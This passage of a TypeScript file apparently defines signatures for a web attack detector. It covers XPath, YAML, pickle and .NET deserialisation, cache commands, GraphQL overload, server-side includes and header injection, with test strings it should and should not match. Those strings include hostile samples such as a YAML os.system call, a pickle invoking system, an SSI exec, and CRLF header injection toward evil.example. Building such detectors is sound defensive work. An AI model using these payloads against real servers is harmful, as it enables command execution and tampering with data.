    pattern: String.raw`['"]\)?\] ?\| ?/{1,2}[a-z*]|['"]\)\]/|['"]\]/\*|(?:\bor|\band) ?/{1,2}(?:\*|[a-z]{1,20}(?:/|::|\[))|\b(?:count|string-length|substring|boolean|string|normalize-space) ?\( ?(?:/{1,2}(?:[a-z*]|child::)|name ?\( ?/)|\bname ?\( ?/\*|['"] ?\| ?/{1,2}(?:\*|[a-z]{1,20}(?:\(\)|/|$))|(?:ancestor|descendant|following|preceding|parent)(?:-or-self|-sibling)?::(?:\*|node\()|['"] ?(?:or|and) ?(?:ancestor|descendant|following|preceding|child|self)(?:-or-self|-sibling)?::|/child::(?:\*|node\(|text\()|unparsed-text(?:-available)? ?\( ?['"]|\bdoc(?:-available)? ?\( ?['"](?:https?|file|ftp):|/{1,2}(?:\*|[a-z]{1,20})\[ ?(?:name ?\( ?\)|name/text|position ?\( ?\) ?=|contains ?\( ?name)|['"] ?or ?\.= ?['"]|\]/(?:parent|child|\.\.)[/:]|\blast\(\)-\d`,
    needs: [
      "']",
      '"]',
      "')]",
      '")]',
      "or /",
      "or/",
      "and /",
      "and/",
      "count",
      "string",
      "substring",
      "name",
      "boolean",
      "normalize-space",
      "|",
      "::",
      "unparsed-text",
      "doc",
      "position",
      ".=",
      "]/",
      "last()",
    ],
    hits: [
      "x'] | //user/*",
      "' or //user[1]",
      "'] | //a/* | b['",
      "count(//account)",
      "string-length(name(/*[1]))=7",
      "'or parent::*or'",
      "doc('http://evil.example/')",
      "//node[position()=2]/secret",
    ],
    misses: [
      "see a['b']",
      "and /home",
      "https://a.example/b",
      "parent::__construct()",
      "//div[contains(@class,'x')]",
      "count(items)",
      "//a[text()='Log in']",
      "a || '/b'",
    ],
  },
  {
    slug: "xpath",
    title: "XPath injection",
    pattern: String.raw`['"] ?\]? ?(?:\||or|and) ?(?:/{1,2}[a-z*]{1,20}|count ?\(|position ?\(|string-length ?\(|substring ?\(|name ?\(|text ?\()|/{1,2}(?:ancestor|child|descendant|following|parent|preceding|self)(?:-or-self|-sibling)?::`,
    needs: ["'", '"', "::"],
    hits: ["' or count(/*)=1 or 'a'='b", "x'] | //user/*[contains(*,'", "/child::node()"],
    misses: ["'a' or counting", "std::vector", "parent: self"],
    certainty: "likely",
  },
  {
    slug: "yaml-objects",
    title: "YAML that creates objects",
    pattern: String.raw`!!python/(?:object|name|module|tuple|dict|bytes)|!!js/(?:function|regexp|undefined)|tag:yaml\.org,2002:(?:js|python|ruby|java)|!!(?:javax|java|com|org)\.[a-z]{1,40}\.[a-z.]{1,80}|!(?:ruby|php)/(?:object|hash|struct|array|class|sym|regexp|range|exception)\b`,
    hits: [
      '!!python/object/apply:os.system ["id"]',
      "!!python/object/new:type",
      "a: !!javax.script.ScriptEngineManager [x]",
      "--- !ruby/object:Gem::Installer",
    ],
    misses: ["learn python/object now!!", "wow!! java. And more", "!important", "see com.example!!"],
  },
  {
    slug: "cache-commands",
    title: "Cache injection: a command after a line break",
    pattern: String.raw`[\r\n](?:flushall|flushdb|flush_all|config set |slaveof |replicaof |eval ["'][^"'\r\n]{1,60}["'] \d|script load|module load|set [^\r\n -][^\r\n ]{0,60} [^\r\n ]{1,60}(?: \d{1,9} \d{1,9})?\r\n|stats\r\n)|\*\d{1,3}\r?\n\$\d{1,4}\r?\n`,
    needs: ["flush", "config set", "slaveof", "replicaof", "eval ", "script load", "module load", "set ", "stats", "$"],
    reading: "lines",
    hits: ["x\r\nFLUSHALL\r\n", "*1\r\n$8\r\nflushall", "x\r\nset a 0 3600 10\r\n1"],
    misses: ["flush all pipes", "a\nset the table", "*1 and $8", "#!/bin/sh\r\nset -eu pipefail\r\nls"],
  },
  {
    slug: "object-types",
    title: "Insecure deserialisation: type names",
    pattern: String.raw`\bsystem\.(?:windows|diagnostics|io|data|configuration|management|web|security|activities|workflow|runtime)\.[a-z.0-9]{3,60}, ?(?:presentation|system|mscorlib|microsoft)|^py/(?:object|reduce|type|function|newargs)$|^json_class$|\bexpandedwrapper${"`"}2|<objectdataprovider|<java\.util\.priorityqueue|clr-namespace:system[a-z.]{0,40};assembly|system\.(?:runtime\.serialization\.formatters|web\.ui\.(?:objectstateformatter|losformatter))|\blosformatter\b`,
    needs: ["system", "py/", "json_class", "expandedw", "objectdata", "priorityq", "losformatter"],
    hits: ["System.Diagnostics.Process, System", "py/object", "json_class"],
    misses: ["System.IO.FileNotFoundException: Could not find file", "happy/object", "system.data, they said"],
  },
  {
    slug: "python-pickle",
    title: "Insecure deserialisation: a pickle that calls a function",
    pattern: String.raw`(?:^|[\n(.= ])[ci](?:os|posix|nt|subprocess|commands|builtins|__builtin__)(?:\n|\\n)(?:system|popen|eval|exec|call|check_output|getoutput|spawn[a-z]{1,3}|run|apply)(?:\n|\\n)`,
    reading: "lines",
    needs: ["os", "nt", "subprocess", "commands", "builtin"],
    hits: ["cos\nsystem\n(S'id'\ntR.", "(S'id'\nios\nsystem\n."],
    misses: ["os\nsystem\n", "the cosmos\nsystem"],
  },
  {
    slug: "graphql-shape",
    title: "GraphQL: a document that is made to keep a server busy",
    detect: overloadsGraphql,
    reading: "lines",
    needs: ["{"],
    targets: INPUT,
    hits: [
      `query ${"{ a ".repeat(60)}${"}".repeat(60)}`,
      `mutation { ${Array.from({ length: 200 }, (_, i) => `a${i}: f(p: 1)`).join(" ")} }`,
      `query { a ${"@include(if: true) ".repeat(80)} }`,
    ],
    misses: ["query { a { b { c } } }", "{ ...a } fragment a on q { x ...b } fragment b on q { y }", `{ ${"a ".repeat(300)} }`],
  },
  {
    slug: "ssi",
    title: "Server-side includes",
    pattern: String.raw`<!--[ ]?#[ ]?(?:exec|include|echo|config|printenv|fsize|flastmod|set)\b|<esi:(?:include|vars|inline|comment|remove|try)`,
    hits: ['<!--#exec cmd="id"-->', '<!--#include file="/etc/x"-->', '<esi:include src="http://x"/>'],
    misses: ["<!-- a comment -->", "<!-- #1 -->"],
  },
  {
    slug: "header-injection",
    title: "Response header injection",
    pattern: String.raw`^[^\r\n ]{0,300}[\r\n]{1,8}[ \t]?(?:[^\r\n]{0,60}[\r\n]{1,4})?(?:set-cookie2?|location|content-type|content-length|content-disposition|content-encoding|connection|last-modified|etag|expires|p3p|vary|www-authenticate|refresh|link|access-control-[a-z-]{3,30}|transfer-encoding|status|server|cache-control|host|via|content-security-policy|strict-transport-security|alt-svc|clear-site-data|content-[a-z-]{4,30}|permissions-policy|referrer-policy|report-to|cross-origin-[a-z-]{8,20}|proxy-auth[a-z]{4,12}|keep-alive|accept-ranges|retry-after|pragma|cookie|origin|user-agent|authorization|forwarded|x-[a-z-]{2,30}|mime-version) ?:|^[^\r\n ]{0,300}[\r\n]{1,8}(?:http/[0-9]|<html|<script|(?:get|post|put) /)`,
    beginsValue: true,
    unless: isNestedPart,
    needs: [":", "http/", "<html", "<script", " /"],
    reading: "lines",
    targets: ARGUMENTS | COOKIES | PATH | HEADERS,
    hits: ["x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://evil.example", "a\r\n\r\nHTTP/1.1 200 OK", "%0aContent-Length: 0"],
    misses: ["set a cookie", "my location: home", "over http/s", "name: x\nlocation: Berlin", "Dear all,\nsee you\nTo: do"],
  },
  {
    slug: "mail-injection",
    title: "E-mail or request header injection",
    pattern: String.raw`^[^\r\n @]{1,64}@[^\r\n @]{1,64}[\r\n]{1,2}\.?[\r\n]{0,2}(?:(?:bcc|cc|to|subject|from|reply-to) ?:|mail from:|rcpt to:|data[\r\n])|^[^\r\n ]{0,64}[\r\n]{1,4}\.?[\r\n]{0,4}(?:mail from: ?<|rcpt to: ?<|quit(?:[\r\n]|$)|(?:ehlo|helo) [a-z]|rset[\r\n])|^[a-z0-9 ]{0,40}[\r\n]{1,4}[a-z]\d{1,4} (?:capability|fetch|login|logout|select|list|noop)\b|^[^\r\n ]{0,64} http/1\.[01]\r?\n[a-z-]{2,30}:|^[^\\ ]{0,64}\\[nr](?:\\n)?(?:set-cookie|location|content-[a-z-]{4,20}|x-[a-z-]{2,30}|access-control-[a-z-]{3,30}|link|status|refresh|host|transfer-encoding|cache-control) ?:|^[^\r\n ]{0,64}\r?\ndata[\r\n]|^[^\xc4\xe5 ]{0,64}(?:\xe5\x98[\x8a\x8d]|\xc4[\x8a\x8d]){1,4}(?:(?:set-cookie|location|content-|x-|access-control-|link|status|refresh|host|transfer-)[a-z0-9-]{0,30} ?:|http/)`,
    beginsValue: true,
    reading: "lines",
    needs: [":", "data", "quit", "ehlo", "helo", "rset", "capability", "fetch", "login", "logout", "select", "list", "noop", "http/"],
    targets: ARGUMENTS | COOKIES | PATH | HEADERS,
    hits: ["a@b.example\r\nBcc: c@d.example", "x\\r\\nSet-Cookie: a=b", "x HTTP/1.1\r\nHost: a"],
    misses: ["Hi,\nTo: nobody in particular", "see a@b.example\nthanks", "C:\\new\\data"],
  },
];

/** A sentence about programs starts with words. */
function isSentence(text: string): boolean {
  return /^[a-z']{1,20},? [a-z']{2,20} [`'a-z]{1,20}[ ,.?!(`]/.test(text) && !/[{}$<>;]/.test(text.slice(0, 8192));
}

/** A post that shows a program, or a report about an error in one. */
function tellsOfPython(text: string): boolean {
  return isSentence(text) || /^\s{0,8}(?:#!\/|traceback \(most recent call last\))/.test(text);
}

/** A question that names variables, without a call. */
/** Programs in C end with such a call. */
function isIdiomOfC(text: string): boolean {
  return /^ ?system ?\( ?["'](?:pause|cls|clear)["'] ?\)/.test(text);
}

function asksAboutPhp(text: string): boolean {
  return (
    /^[a-z]{2,12} [a-z']{1,12} [^<>{}]{1,400}$/.test(text) &&
    !/\b(?:eval|system|assert|exec|passthru|include|require|unserialize) ?\(/.test(text)
  );
}

/** Some interfaces name the filters of a list in this way. */
function isFilterName(name: string): boolean {
  return /^\/?(?:filters?|where|query|sort|fields|populate)(?:\[|\.)/.test(name) && !/\$(?:where|function|expr|regex)/.test(name);
}

/** A query in the language of the database's console. */
function asksDatabase(text: string): boolean {
  return (
    isProgram(text) ||
    (/^\s{0,8}db\.[a-z_]{1,40}\.(?:find|aggregate|count|countdocuments|distinct)\((?:\{ ?[a-z_"']|\[|["'])/.test(text) &&
      !/\$(?:where|function)|["'];/.test(text))
  );
}

/** A sentence with a whole filter in it; what breaks out of a filter has a bracket without its partner. */
function quotesFilter(text: string): boolean {
  if (text.length > 1024) return false;
  // A setting in which a program fills in a name.
  const isSetting = /^\([&|]\([a-z]/.test(text) && /=(?:\{[\w]{1,20}\}|%[su]|\$\{?\w{1,20}\}?|<\w{1,20}>)\)/.test(text);
  if (!isSetting && !/^[a-z][\w',.:?! -]{2,200} \([&|!]\([a-z]/.test(text)) return false;
  let depth = 0;
  for (const char of text) {
    if (char === "(") depth++;
    else if (char === ")" && --depth < 0) return false;
  }
  return depth === 0;
}

/** Scripts start with words of their language. */
function isProgram(text: string): boolean {
  return (
    /^\s{0,20}(?:var|let|const|if ?\(|import|export|class|async) ?[\w({*]/.test(text.slice(0, 200)) &&
    !/\$where|this\./.test(text.slice(0, 8192))
  );
}

/** A part within a part has its own head. */
function isNestedPart(text: string): boolean {
  return /^--[\w'()+,./:=?-]{1,70}\r?\ncontent-disposition: ?[a-z-]{1,20};/.test(text) && text.trimEnd().endsWith("--");
}

/** Stack traces contain class names with line numbers. */
function isStackTrace(text: string): boolean {
  return (
    /(?:\bat |["']module["']: ?["'])[\w.$/]{3,200}(?:\([\w.]{1,80}(?::\d{1,6})?\)|["'])/.test(text.slice(0, 65_536)) &&
    !/getruntime|processbuilder\(|\.exec\(|classloader/.test(text)
  );
}

/** Documents of public types start with this. */
function isPublicType(text: string): boolean {
  return (
    /<!doctype (?:html|svg|math|plist|wml) public ["']-\/\/(?:w3c|apple|wapforum)\/\/|<!doctype html public/.test(text) &&
    !/<!entity|<!\[cdata\[ ?<|<xi:|<xsl:/.test(text)
  );
}

export const TEMPLATE_INJECTION: readonly Signature[] = signaturesOf("template-injection", TEMPLATES);
export const PHP_INJECTION: readonly Signature[] = signaturesOf("php", PHP);
export const JAVA_INJECTION: readonly Signature[] = signaturesOf("java", JAVA);
export const NODE_INJECTION: readonly Signature[] = signaturesOf("nodejs", NODE);
export const DATA_INJECTION: readonly Signature[] = signaturesOf("nosql-ldap-xml", DATA);
